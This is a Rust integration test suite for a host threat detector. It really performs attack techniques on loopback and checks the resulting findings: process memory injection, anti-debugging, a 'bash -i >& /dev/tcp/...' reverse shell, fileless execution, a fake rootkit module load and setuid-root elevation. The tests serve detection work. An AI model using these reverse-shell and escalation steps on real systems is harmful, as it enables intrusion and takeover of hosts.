//! Findings about what processes do to each other and to the kernel, each
//! technique performed for real on the host: injection into another process
//! (/proc/<pid>/mem, ptrace, process_vm_writev), anti-debugging, reverse
//! shells, fileless execution, userfaultfd, kernel module loading, elevation
//! to root through a set-user-id binary, and shells started by network
//! services.
//!
//! Each test asserts that exactly the expected type fires for the acting
//! process (once it has exited, so everything it did has been through the
//! detector), with the context GuardDuty documents; its near misses — the
//! ordinary form of the same activity — assert that the agent saw the
//! process and found nothing about it.
//!
//! Network traffic stays on loopback. Files go to temp paths.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use saker_detect::{Finding, FindingType as T};
use saker_model::{Event, Kind, Payload};
use saker_testkit::{Harness, Trigger, WATCHED_DIR, by, harness, trigger_path};
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread::JoinHandle;

// ---- what a process printed, and what was found about it ----

/// The value of a `key=value` line the trigger printed.
fn printed(t: &Trigger, key: &str) -> String {
    let prefix = format!("{key}=");
    t.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("the trigger printed no {key}: {}", t.stdout))
        .to_owned()
}

fn printed_pid(t: &Trigger, key: &str) -> u32 {
    printed(t, key).parse().unwrap()
}

fn ctx<'a>(f: &'a Finding, field: &str) -> &'a Value {
    f.service.runtime_details.context.get(field).unwrap_or_else(|| panic!("no context field {field}: {f:#?}"))
}

fn of_pid(f: &Finding, ty: T, pid: u32) -> bool {
    f.finding_type == ty && f.service.runtime_details.process.pid == pid
}

/// A finding about a host process: its resource is the instance.
fn assert_instance_resource(f: &Finding) {
    assert_eq!(f.resource.resource_type, "Instance", "{f:#?}");
    assert!(f.resource.container_details.is_none(), "{f:#?}");
    assert!(f.resource.ecs_cluster_details.is_none(), "{f:#?}");
    assert!(f.resource.instance_details.as_ref().is_some_and(|i| i.hostname.is_some()), "{f:#?}");
}

use saker_testkit::exited;

/// The exec of `what` matching `pred` was seen, the process exited, and no
/// finding is about it.
fn assert_nothing_found(h: &Harness, what: &str, pred: impl Fn(&Event) -> bool) -> Event {
    let exec = h.expect(what, |e| e.kind == Kind::ProcessExec && pred(e));
    let uuid = exec.process.as_ref().unwrap().uuid.to_string();
    h.expect(&format!("exit of {what}"), |e| exited(e, &uuid));
    let found = h.findings(|f| f.service.runtime_details.process.uuid == uuid);
    assert!(found.is_empty(), "{what}: nothing expected, found {found:#?}");
    exec
}

fn argv0_is(e: &Event, argv0: &str) -> bool {
    e.exec().is_some_and(|x| x.argv.first().is_some_and(|a| a == argv0))
}

/// The remote end of a network finding's action.
fn remote(f: &Finding) -> (String, u16) {
    let a = f.service.action.as_ref().unwrap_or_else(|| panic!("no action: {f:#?}"));
    let c = &a["networkConnectionAction"];
    assert_eq!(a["actionType"], "NETWORK_CONNECTION", "{a}");
    assert_eq!(c["connectionDirection"], "OUTBOUND", "{a}");
    assert_eq!(c["protocol"], "TCP", "{a}");
    let ip = c["remoteIpDetails"]["ipAddressV4"].as_str().unwrap_or_default().to_owned();
    (ip, c["remotePortDetails"]["port"].as_u64().unwrap() as u16)
}

// ---- helpers: listeners, stand-ins, files ----

/// The attacker's end of a reverse shell: a loopback listener that accepts
/// one connection, sends `commands`, and returns everything it received
/// until the other side closed.
fn listener(commands: &'static str) -> (u16, JoinHandle<String>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let got = std::thread::spawn(move || {
        let (mut s, _) = l.accept().unwrap();
        s.set_read_timeout(Some(saker_testkit::WAIT)).unwrap();
        s.write_all(commands.as_bytes()).unwrap();
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        String::from_utf8_lossy(&out).into_owned()
    });
    (port, got)
}

/// A directory anyone may enter (the elevation tests run as nobody).
fn public_dir() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::Builder::new().prefix("saker-process-").tempdir().unwrap();
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    d
}

/// Install `src` at `dir/name` with `mode`, owned by root. By a child
/// process: a write descriptor open in the test process would be inherited
/// by other tests' children between fork and exec, and executing the copy
/// would then fail with ETXTBSY.
fn install(src: &Path, dir: &Path, name: &str, mode: &str) -> PathBuf {
    let path = dir.join(name);
    let status =
        Command::new("install").args(["-o", "root", "-g", "root", "-m", mode]).arg(src).arg(&path).status().unwrap();
    assert!(status.success(), "installing {} as {}: {status}", src.display(), path.display());
    path
}

const NOBODY: u32 = 65534;

// ---- DefenseEvasion:Runtime/ProcessInjection.* ----

#[test]
fn process_injection_proc_writes_into_another_process_through_proc_pid_mem() {
    let Some(h) = harness() else { return };
    let t = h.trigger(&["inject-proc-mem"]);
    assert_eq!(printed(&t, "verified"), "true", "the victim's memory was overwritten: {}", t.stdout);
    let victim = printed_pid(&t, "child");

    let f = h.expect_finding("ProcessInjection.Proc by the trigger", |f| of_pid(f, T::ProcessInjectionProc, t.pid));
    assert_eq!(ctx(&f, "targetProcess"), &json!({ "pid": victim }));
    assert_eq!(ctx(&f, "filePath"), &format!("/proc/{victim}/mem"));
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);
}

#[test]
fn process_injection_ptrace_pokes_data_into_a_child() {
    let Some(h) = harness() else { return };
    let t = h.trigger(&["inject-ptrace"]);
    assert_eq!(printed(&t, "poke"), "0", "{}", t.stdout);
    assert_eq!(printed(&t, "verified"), "true", "the victim's memory was overwritten: {}", t.stdout);
    let victim = printed_pid(&t, "child");

    let f = h.expect_finding("ProcessInjection.Ptrace by the trigger", |f| of_pid(f, T::ProcessInjectionPtrace, t.pid));
    assert_eq!(ctx(&f, "targetProcess"), &json!({ "pid": victim }));
    assert_eq!(ctx(&f, "ptraceRequest"), "PTRACE_POKEDATA");
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);
}

#[test]
fn process_injection_virtual_memory_write_into_a_child() {
    let Some(h) = harness() else { return };
    let t = h.trigger(&["inject-vm-write"]);
    assert_eq!(printed(&t, "written"), "16", "{}", t.stdout);
    assert_eq!(printed(&t, "verified"), "true", "the victim's memory was overwritten: {}", t.stdout);
    let victim = printed_pid(&t, "child");

    let f = h.expect_finding("ProcessInjection.VirtualMemoryWrite by the trigger", |f| {
        of_pid(f, T::ProcessInjectionVirtualMemoryWrite, t.pid)
    });
    assert_eq!(ctx(&f, "targetProcess"), &json!({ "pid": victim }));
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);
}

// ---- DefenseEvasion:Runtime/PtraceAntiDebugging ----

#[test]
fn ptrace_anti_debugging_traceme_outside_a_debugger() {
    let Some(h) = harness() else { return };
    // A program checking that nobody debugs it: PTRACE_TRACEME on itself.
    let t = h.trigger(&["anti-debug"]);
    assert_eq!(printed(&t, "traceme"), "0", "{}", t.stdout);
    let f = h.expect_finding("PtraceAntiDebugging by the trigger", |f| of_pid(f, T::PtraceAntiDebugging, t.pid));
    let test_binary = std::env::current_exe().unwrap();
    assert_eq!(ctx(&f, "parentName"), test_binary.file_name().unwrap().to_str().unwrap());
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);

    // Near miss: a debugger starting its inferior — the child asks to be
    // traced by its parent, gdb, and execs the program under it.
    let dir = public_dir();
    let gdb = install(&trigger_path(), dir.path(), "gdb", "0755");
    let out = Command::new(&gdb).args(["debug-child", "/bin/true"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("status=0"), "the inferior ran to its end: {stdout}");
    let inferior: u32 = stdout.lines().find_map(|l| l.strip_prefix("child=")).unwrap().parse().unwrap();
    h.expect("the inferior's PTRACE_TRACEME", |e| {
        by(e, inferior) && matches!(&e.payload, Payload::Ptrace(p) if p.request == 0)
    });
    assert_nothing_found(h, "the inferior's exec of /bin/true", |e| by(e, inferior));
}

// ---- Execution:Runtime/ReverseShell ----

#[test]
fn reverse_shell_socket_on_stdio_and_bash_dev_tcp() {
    let Some(h) = harness() else { return };

    // `nc -e /bin/sh`: connect to the attacker, put the socket on the
    // shell's stdin, stdout and stderr, exec the shell. The attacker runs a
    // command in it.
    let (port, got) = listener("echo saker-reverse-shell-$((6*7))\nexit\n");
    let t = h.trigger(&["stdio-socket-exec", &format!("tcp:127.0.0.1:{port}"), "/bin/sh"]);
    assert!(got.join().unwrap().contains("saker-reverse-shell-42"), "the shell ran the attacker's command");
    let shell = printed_pid(&t, "child");
    let f = h.expect_finding("ReverseShell: /bin/sh on a socket", |f| of_pid(f, T::ReverseShell, shell));
    assert_eq!(remote(&f), ("127.0.0.1".to_owned(), port));
    assert_eq!(ctx(&f, "addressFamily"), "AF_INET");
    assert_eq!(ctx(&f, "ianaProtocolNumber"), 6);
    assert_eq!(ctx(&f, "commandLineExample"), "/bin/sh");
    assert_instance_resource(&f);
    // Not also a shell created by a network service: the payload connected
    // out, it serves nothing.
    h.assert_only_type_for_process(&f);

    // The bash one-liner, with real bash: its /dev/tcp redirection connects,
    // and an interactive bash keeps the prompt on the socket.
    let (port, got) = listener("echo saker-bash-$((6*7))\nexit\n");
    let line = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let mut outer = Command::new("/bin/bash").args(["-c", &line]).stdin(Stdio::null()).spawn().unwrap();
    let outer_pid = outer.id();
    let status = outer.wait().unwrap();
    assert!(status.success(), "{line}: {status}");
    assert!(got.join().unwrap().contains("saker-bash-42"), "bash ran the attacker's command");
    let f = h.expect_finding("ReverseShell: bash -i on /dev/tcp", |f| {
        f.finding_type == T::ReverseShell && remote(f).1 == port
    });
    assert_eq!(remote(&f), ("127.0.0.1".to_owned(), port));
    assert_eq!(f.service.runtime_details.process.argv, ["bash", "-i"]);
    assert_eq!(ctx(&f, "commandLineExample"), "bash -i");
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);
    // Nothing else about the one-liner's processes either.
    h.expect("exit of the one-liner's bash", |e| e.kind == Kind::ProcessExit && by(e, outer_pid));
    let p = &f.service.runtime_details.process;
    assert!(p.pid == outer_pid || p.lineage.iter().any(|a| a.pid == outer_pid), "bash -i is the one-liner's");
    let others: Vec<T> = h
        .findings(|g| {
            let q = &g.service.runtime_details.process;
            q.pid == outer_pid || q.lineage.iter().any(|a| a.pid == outer_pid)
        })
        .iter()
        .map(|g| g.finding_type)
        .collect();
    assert!(others.iter().all(|t| *t == T::ReverseShell), "only ReverseShell for the one-liner, got {others:?}");

    // Near miss: the same connection made, but the interactive shell reads
    // a pipe, not the socket.
    let (port, got) = listener("");
    let t = h.trigger(&["pipe-shell", &format!("127.0.0.1:{port}")]);
    assert_eq!(printed(&t, "status"), "0", "{}", t.stdout);
    got.join().unwrap();
    let shell = printed_pid(&t, "child");
    let exec = assert_nothing_found(h, "sh -i on a pipe", |e| by(e, shell));
    let x = exec.exec().unwrap();
    assert!(!x.stdin_socket, "stdin is a pipe: {x:?}");
    assert_eq!(x.argv, ["/bin/sh", "-i"]);
}

// ---- DefenseEvasion:Runtime/FilelessExecution ----

#[test]
fn fileless_execution_from_a_memfd_and_of_a_deleted_file() {
    let Some(h) = harness() else { return };

    // A program copied into a memory file and executed from it.
    let t = h.trigger(&["memfd-exec"]);
    let child = printed_pid(&t, "child");
    let f = h.expect_finding("FilelessExecution from a memfd", |f| of_pid(f, T::FilelessExecution, child));
    assert_eq!(ctx(&f, "filelessKind"), "memfd");
    let exe = ctx(&f, "executablePath").as_str().unwrap();
    assert!(exe.starts_with("/memfd:saker-fileless"), "{exe}");
    assert_eq!(ctx(&f, "commandLineExample"), "fileless-true");
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);

    // A program deleted from disk while open, then executed through its fd.
    let t = h.trigger(&["deleted-exec"]);
    let child = printed_pid(&t, "child");
    let f = h.expect_finding("FilelessExecution of a deleted file", |f| of_pid(f, T::FilelessExecution, child));
    assert_eq!(ctx(&f, "filelessKind"), "deleted");
    let exe = ctx(&f, "executablePath").as_str().unwrap();
    assert!(exe.starts_with(&format!("/tmp/saker-deleted-{}", t.pid)), "{exe}");
    assert_eq!(ctx(&f, "commandLineExample"), "deleted-true");
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);
}

// ---- PrivilegeEscalation:Runtime/UserfaultfdUsage ----

#[test]
fn userfaultfd_created_and_registered() {
    let Some(h) = harness() else { return };
    let t = h.trigger(&["uffd"]);
    assert_eq!(printed(&t, "api"), "0", "{}", t.stdout);
    assert_eq!(printed(&t, "register"), "0", "{}", t.stdout);
    let f = h.expect_finding("UserfaultfdUsage by the trigger", |f| of_pid(f, T::UserfaultfdUsage, t.pid));
    assert_eq!(ctx(&f, "flags"), (libc::O_CLOEXEC | libc::O_NONBLOCK) as i64);
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);
}

// ---- DefenseEvasion:Runtime/KernelModuleLoaded ----

#[test]
fn kernel_module_load_attempted() {
    let Some(h) = harness() else { return };
    // The rootkit module file (this kernel has no module support: the
    // attempt fails, and the attempt is what is reported).
    let ko = format!("{WATCHED_DIR}evil.ko");
    std::fs::write(&ko, b"\x7fELF\x02\x01\x01 not a real module\n").unwrap();
    let t = h.trigger(&["module-file", &ko]);
    assert_eq!(printed(&t, "finit"), "-1", "{}", t.stdout);
    let errno: i64 = printed(&t, "errno").parse().unwrap();

    let f = h.expect_finding("KernelModuleLoaded by the trigger", |f| of_pid(f, T::KernelModuleLoaded, t.pid));
    assert_eq!(ctx(&f, "moduleName"), "evil");
    assert_eq!(ctx(&f, "moduleFilePath"), ko.as_str());
    assert_eq!(ctx(&f, "moduleLoadMethod"), "finit_module");
    assert_eq!(ctx(&f, "result"), -errno);
    let sha = Command::new("sha256sum").arg(&ko).output().unwrap();
    let sha = String::from_utf8_lossy(&sha.stdout);
    assert_eq!(ctx(&f, "moduleSha256"), sha.split_whitespace().next().unwrap(), "the agent hashed the module file");
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);

    // Near miss: the host's own module loader doing its job (modprobe,
    // started by a service, not from a shell).
    let dir = public_dir();
    let modprobe = install(&trigger_path(), dir.path(), "modprobe", "0755");
    let out = Command::new(&modprobe).args(["module-file", &ko]).output().unwrap();
    let pid: u32 = String::from_utf8_lossy(&out.stdout).lines().next().unwrap()["pid=".len()..].parse().unwrap();
    h.expect("modprobe's module load attempt", |e| by(e, pid) && e.kind == Kind::ModuleLoad);
    assert_nothing_found(h, "modprobe", |e| by(e, pid));
    std::fs::remove_file(&ko).unwrap();
}

// ---- PrivilegeEscalation:Runtime/ElevationToRoot ----

#[test]
fn elevation_to_root_through_an_unusual_setuid_binary() {
    let Some(h) = harness() else { return };
    let dir = public_dir();
    let rootme = install(Path::new("/usr/bin/id"), dir.path(), "rootme", "4755");
    let rootme_path = rootme.display().to_string();

    // An unprivileged user runs a set-user-id-root copy of a program that is
    // not normally set-user-id.
    let out = Command::new(&rootme).uid(NOBODY).gid(NOBODY).stdin(Stdio::null()).output().unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("uid=65534") && said.contains("euid=0"), "root gained: {said}");
    let f = h.expect_finding("ElevationToRoot through rootme", |f| {
        f.finding_type == T::ElevationToRoot
            && f.service.runtime_details.process.executable_path.as_deref() == Some(&rootme_path)
    });
    assert_eq!(ctx(&f, "executablePath"), rootme_path.as_str());
    assert_eq!(ctx(&f, "previousUid"), NOBODY);
    assert_eq!(ctx(&f, "previousEuid"), NOBODY);
    assert_eq!(f.service.runtime_details.process.euid, 0);
    assert_eq!(f.service.runtime_details.process.user_id, NOBODY);
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);

    // Near misses: set-user-id programs that are root as their job, run by
    // the same user from a shell — `sudo` (usual from a person's shell) and
    // `ping` (usual from anywhere). Copies of `id` by those names.
    let sudo = install(Path::new("/usr/bin/id"), dir.path(), "sudo", "4755").display().to_string();
    let ping = install(Path::new("/usr/bin/id"), dir.path(), "ping", "4755").display().to_string();
    let out = Command::new("/bin/bash")
        .args(["-c", &format!("{sudo}; {ping}; true")])
        .uid(NOBODY)
        .gid(NOBODY)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).matches("euid=0").count(), 2, "both gained root");
    for path in [&sudo, &ping] {
        let exec = assert_nothing_found(h, &format!("{path} from bash"), |e| argv0_is(e, path));
        let x = exec.exec().unwrap();
        assert!(x.setuid, "{path} is set-user-id: {x:?}");
        assert_eq!(x.previous.unwrap().euid, NOBODY);
        assert_eq!(exec.process.as_ref().unwrap().euid, 0);
        assert_eq!(exec.lineage.first().map(|p| &*p.name), Some("bash"));
    }
}

// ---- Execution:Runtime/SuspiciousShellCreated ----

#[test]
fn suspicious_shell_created_by_a_network_service() {
    let Some(h) = harness() else { return };
    // A service (it listened and accepted a connection) starts an
    // interactive shell.
    let t = h.trigger(&["service-shell", "/bin/sh", "-i"]);
    assert_eq!(printed(&t, "status"), "0", "{}", t.stdout);
    let shell = printed_pid(&t, "child");
    let f =
        h.expect_finding("SuspiciousShellCreated below the service", |f| of_pid(f, T::SuspiciousShellCreated, shell));
    // The shell as the program it is (/bin/sh is a link to dash on Debian).
    let sh = std::fs::canonicalize("/bin/sh").unwrap();
    assert_eq!(ctx(&f, "shellName"), sh.file_name().unwrap().to_str().unwrap());
    assert_eq!(ctx(&f, "parentName"), "saker-trigger");
    assert_eq!(f.service.runtime_details.process.argv, ["/bin/sh", "-i"]);
    assert_eq!(f.service.runtime_details.process.lineage[0].pid, t.pid);
    assert_instance_resource(&f);
    h.assert_only_type_for_process(&f);

    // Near miss: the same service running one command through a shell.
    let t = h.trigger(&["service-shell", "/bin/sh", "-c", "echo hi"]);
    assert_eq!(printed(&t, "status"), "0", "{}", t.stdout);
    let shell = printed_pid(&t, "child");
    assert_nothing_found(h, "sh -c 'echo hi' below the service", |e| by(e, shell));
}
